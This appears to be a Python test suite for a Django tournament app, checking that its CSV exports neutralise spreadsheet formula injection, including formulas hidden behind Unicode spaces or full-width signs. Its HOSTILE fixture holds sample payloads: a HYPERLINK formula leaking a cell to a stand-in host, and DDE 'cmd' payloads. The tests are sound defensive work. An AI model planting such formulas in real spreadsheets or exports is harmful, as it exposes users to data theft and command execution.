"""CSV for spreadsheets: every cell a spreadsheet would run as a formula is written as text
(OWASP "CSV injection"), while numbers stay numbers."""

import csv
import io
import re
import unicodedata
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from tests import factories
from tests.tournaments.helpers import play
from tournaments import exports
from tournaments.models import Entry, Tournament

pytestmark = pytest.mark.django_db

# What a spreadsheet runs, or reads as the start of a formula, when a cell begins with it.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1;"Details")',
    "+1",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tx",
    "\rx",
]


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(value):
    assert exports.spreadsheet_cell(value) == "'" + value


@pytest.mark.parametrize("value", [" =1+1", "  @SUM(A1)", "\n=1", "\0=1"])
def test_a_formula_behind_spaces_or_a_control_character_is_written_as_text(value):
    assert exports.spreadsheet_cell(value) == "'" + value


# What a formula may hide behind, that a check of the ASCII space misses: the no-break space,
# the spaces of typesetting and the ideographic one, zero-width ones, the byte order mark, the
# marks of the writing direction, line and paragraph separators, other controls.
UNICODE_BLANKS = [
    "\u00a0",
    "\u2000",
    "\u2007",
    "\u200a",
    "\u200b",
    "\u202f",
    "\u205f",
    "\u3000",
    "\ufeff",
    "\u200e",
    "\u2066",
    "\u2028",
    "\u2029",
    "\x0b",
    "\x0c",
    "\x1f",
    "\x85",
    " \u00a0\t",
]
# What starts a formula: the ASCII signs, their full-width and small forms, the minus sign.
FORMULA_SIGNS = "=+-@＝＋－＠﹦﹢﹣﹫\u2212⁼⁻"


@pytest.mark.parametrize("blank", UNICODE_BLANKS)
def test_a_formula_behind_a_unicode_space_or_invisible_character_is_written_as_text(blank):
    value = blank + '=HYPERLINK("https://evil.example/?"&A1;"Details")'
    assert exports.spreadsheet_cell(value) == "'" + value


@pytest.mark.parametrize("sign", FORMULA_SIGNS)
def test_a_full_width_or_other_formula_sign_is_written_as_text(sign):
    assert exports.spreadsheet_cell(sign + "1+1") == "'" + sign + "1+1"
    assert exports.spreadsheet_cell("\u3000" + sign + "1") == "'\u3000" + sign + "1"


@pytest.mark.parametrize(
    "value", ["\u00a0Müller", "\u200bO'Brien", "\u3000東京", "Anna\u00a0=1", "\ufeff"]
)
def test_a_harmless_text_behind_a_unicode_space_is_written_as_it_is(value):
    assert exports.spreadsheet_cell(value) == value


# The characters a spreadsheet may pass over before it reads a formula: Unicode's separators
# (every space among them) and its controls and format characters.
INVISIBLE = st.characters(categories=("Zs", "Zl", "Zp", "Cc", "Cf"))


def reads_as_formula(text: str) -> bool:
    """A spreadsheet at its most generous: it drops every whitespace and invisible character
    from the start of a cell and reads a formula from a sign in any width."""
    visible = next((c for c in text if not (c.isspace() or unicodedata.category(c)[0] in "ZC")), "")
    return text[:1] in ("\t", "\r", "\n", "\0") or (
        unicodedata.normalize("NFKC", visible)[:1] in tuple("=+-@\u2212")
    )


@given(blanks=st.text(INVISIBLE), sign=st.sampled_from(FORMULA_SIGNS), rest=st.text())
def test_no_formula_behind_any_invisible_characters_leaves_the_writer(blanks, sign, rest):
    """The law: no cell a spreadsheet reads as a formula leaves the writer."""
    value = blanks + sign + rest
    assert exports.spreadsheet_cell(value) == "'" + value


@given(st.text())
def test_the_writer_only_ever_adds_a_quotation_mark_to_a_formula(text):
    cell = exports.spreadsheet_cell(text)
    assert cell == ("'" + text if reads_as_formula(text) else text)


@given(
    blanks=st.text(st.characters(categories=("Zs", "Cf"))),
    first=st.characters(categories=("L", "N")),
    rest=st.text(),
)
def test_a_name_behind_any_spaces_is_written_as_it_is(blanks, first, rest):
    assert exports.spreadsheet_cell(blanks + first + rest) == blanks + first + rest


@pytest.mark.parametrize("value", ["Müller", "1+1", "Doko & Co.", "", "'quoted", "E-Mail"])
def test_a_harmless_text_is_written_as_it_is(value):
    assert exports.spreadsheet_cell(value) == value


@pytest.mark.parametrize("value", [-3, 2, 0, -1.5, Decimal("-2.50")])
def test_a_number_stays_a_number(value):
    assert exports.spreadsheet_cell(value) == value


def test_a_number_written_as_text_is_text():
    """The type tells a number: points are passed as int, so a name "-3" is a name."""
    assert exports.spreadsheet_cell("-3") == "'-3"
    assert exports.spreadsheet_cell(None) == ""


@pytest.fixture
def hostile_tournament(django_capture_on_commit_callbacks) -> Tournament:
    """Eight players, one round confirmed; six of them named and in clubs a spreadsheet would
    run (written past the services' trimming, as an old row or the admin might hold them)."""
    with django_capture_on_commit_callbacks(execute=True):
        tournament = factories.tournament(players=8, name="Formelpokal")
        entries = list(tournament.entries.order_by("start_number"))
        for entry, value in zip(entries, HOSTILE, strict=False):
            # The names the tournament registered, which its exports write.
            Entry.objects.filter(pk=entry.pk).update(first_name=value, last_name=value, club=value)
        play(tournament)
    return Tournament.objects.get(pk=tournament.pk)


def test_the_standings_csv_neutralises_names_and_clubs(client, hostile_tournament):
    client.cookies["django_language"] = "en"
    response = client.get(reverse("tournaments:standings-csv", args=[hostile_tournament.slug]))
    header, *rows = rows_of(response.content.decode("utf-8-sig"))
    name, club = header.index("Name"), header.index("Club")
    assert len(rows) == 8
    written = {(row[name], row[club]) for row in rows}
    for value in HOSTILE:
        assert (f"'{value} {value}", f"'{value}") in written
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row[:4])


def test_the_standings_csv_writes_negative_points_as_numbers(client, hostile_tournament):
    client.cookies["django_language"] = "en"
    response = client.get(reverse("tournaments:standings-csv", args=[hostile_tournament.slug]))
    text = response.content.decode("utf-8-sig")
    header, *rows = rows_of(text)
    points = [row[header.index("Points")] for row in rows]
    assert any(int(value) < 0 for value in points)
    for value in points:
        # unquoted and unprefixed: a spreadsheet reads -42 as the number -42
        assert value.lstrip("-").isdigit()
        assert f";{value};" in text
    assert [int(row[header.index("Round 1")]) for row in rows] == [int(p) for p in points]


def test_every_csv_is_written_by_the_one_writer():
    """No export writes CSV past ``tournaments.exports`` (and its neutralising)."""
    root = Path(__file__).resolve().parents[2]
    apps = (
        "doko",
        "config",
        "tournaments",
        "scoring",
        "adjudication",
        "printing",
        "backup",
        "demo",
    )
    writers = [
        str(path.relative_to(root))
        for app in apps
        for path in (root / app).rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\b", path.read_text(encoding="utf-8"))
    ]
    assert writers == ["tournaments/exports.py"]
